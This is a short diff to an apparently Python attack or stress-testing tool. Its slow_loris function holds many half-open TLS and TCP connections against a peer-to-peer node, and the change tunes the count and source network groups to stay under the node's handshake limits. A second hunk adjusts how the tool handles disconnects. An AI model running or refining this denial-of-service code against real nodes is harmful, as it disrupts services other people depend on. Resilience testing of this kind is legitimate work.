@@ -130,10 +130,10 @@ def slow_loris(attack):
         peer = attack.enter()
         if peer:
             waiting[peer.tls] = ("frame", frame("inventory", bytes(30_000)))
-    for number in range(40):  # of ten network groups
+    for number in range(28):  # of seven network groups: fewer than a node shakes hands with at a time
         attack.connections += 1
         with contextlib.suppress(OSError):
-            connection = connect_tcp(attack.address, attack.source(number % 10), 5)
+            connection = connect_tcp(attack.address, attack.source(number % 7), 5)
             waiting[connection] = ("tls", b"\x16\x03\x01\x02\x00" + bytes(512))
     at = collections.Counter()
     while attack.lasts():
@@ -337,8 +337,11 @@ def answering(attack, offer, answer):
                         attack.ends[f"asked: {name}"] += 1
                         peer.send_bytes(data)
                         attack.sent(data)
-        except GONE:
-            pass
+        except GONE as error:
+            if "goodbye" in str(error):
+                attack.ends[str(error)] += 1
+                peer.close()
+                continue
         attack.finish(peer)
 
 
